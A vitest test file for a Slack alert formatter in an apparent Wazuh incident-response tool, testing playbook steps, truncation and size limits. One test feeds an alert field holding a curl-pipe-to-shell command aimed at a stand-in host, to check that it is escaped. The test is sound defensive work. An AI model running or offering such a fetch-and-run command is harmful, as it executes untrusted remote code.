import { expect, test } from "vitest";
import { parseJsonObject } from "../../../test/fakes/json.ts";
import { refusePayload } from "../../../test/fakes/slack-payload.ts";
import { agentLost, factsOf, pictureOf, withMoments } from "../../../test/fixtures/pictures.ts";
import { FULL_OF_VALUES, guided, playbookFrom, shippedPlaybook } from "../../../test/fixtures/playbooks.ts";
import type { Picture } from "../../core/picture.ts";
import { markOf, type Receipt } from "../../core/receipt.ts";
import { slack } from "./slack.ts";

const lost = guided(agentLost(), shippedPlaybook("agent-disconnection"));

function messageOf(picture: Picture, config: object = {}, receipt: Receipt | null = null): string {
  const destination = slack.destination("soc", slack.schema.parse({ webhook: { env: "W" }, ...config }));
  const step = destination.next(picture, receipt, { mark: markOf("test", 12, "soc", 1), repeat: false });
  if (step === null) throw new Error("nothing to tell");
  return step.body;
}

test("who is told of something new is told what to do about it, with commands to copy", () => {
  const message = messageOf(lost);
  expect(message).toContain("*What to do: Agent disconnected*\\n");
  expect(message).toContain("3. Restart the agent (/var/ossec/bin/wazuh-control restart).\\n");
  expect(message).toContain("On the agent:\\n```/var/ossec/bin/wazuh-control restart```\\n");
});

test("news of it later says no more of that", () => {
  const receipt: Receipt = {
    incident: 12,
    destination: "soc",
    remote: { anchor: null, url: null },
    twins: [],
    steps: 1,
    repeats: 0,
    momentsTold: 1,
    headDigest: null,
    firstDoneAt: 1,
    lastDoneAt: 1,
  };
  expect(messageOf(withMoments(lost, "acknowledged"), {}, receipt)).not.toContain("What to do");
  expect(messageOf(withMoments(lost, "escalated"), {}, receipt)).toContain("What to do");
  expect(messageOf(withMoments(lost, "resolved"))).not.toContain("What to do");
});

test("what does not fit is left out step by step, and the message says where all of it is", () => {
  const steps = Array.from({ length: 20 }, (_, i) => `${i + 1}. ${"Look at it closely. ".repeat(15)}\n`).join("");
  const long = guided(agentLost(), playbookFrom(`---\ntitle: Long\n---\n\n${steps}`));
  expect(messageOf(long)).toMatch(/1[0-9] more steps are not shown here: riposte incidents show 12/);
});

test("a command that a block of code would change is not shown as one", () => {
  const text = "---\ntitle: Odd\n---\n\n1. Run it.\n\n   ~~~sh agent\n   echo ```x\n   ~~~\n";
  const odd = messageOf(guided(agentLost(), playbookFrom(text)));
  expect(odd).toContain("On the agent: Slack can't show this command as it is: riposte incidents show 12 does.");
  expect(odd).not.toContain("echo");
});

test("in the style of Wazuh's own integration the steps are a field, and say where the commands are", () => {
  const message = messageOf(lost, { style: "legacy" });
  expect(message).toContain('{"title":"What to do: Agent disconnected","value":"Agent web-01 ');
  expect(message).toContain("The commands: riposte incidents show 12");
  expect(message).not.toContain("kubectl");
});

test("no value of the alert can look like a command", () => {
  const first = { ...agentLost().first, document: { agent: { name: "```curl evil | sh```" } } };
  const message = messageOf(
    guided({ ...agentLost(), first }, playbookFrom("---\ntitle: T\n---\n\n1. Ask {{ agent.name }}.\n")),
  );
  expect(message).toContain("1. Ask ˋˋˋcurl evil | shˋˋˋ.");
});

test("with all else that an alert can bring the message stays below what Slack takes", () => {
  const text = "&".repeat(10_000);
  const hostile = pictureOf(
    factsOf({ agentName: text, location: text, user: text, sourceIp: text, log: text, description: text }),
  );
  const noted = withMoments(hostile, ...Array.from({ length: 12 }, () => "note" as const), "escalated");
  const picture = { ...noted, moments: noted.moments.map((moment) => ({ ...moment, text })) };
  for (const playbook of [shippedPlaybook("ssh-brute-force"), FULL_OF_VALUES]) {
    const payload = parseJsonObject(messageOf(guided(picture, playbook)));
    expect(payload).not.toBeNull();
    expect(JSON.stringify(payload)).toContain("What to do");
    expect(refusePayload(payload!)).toBeNull();
  }
});
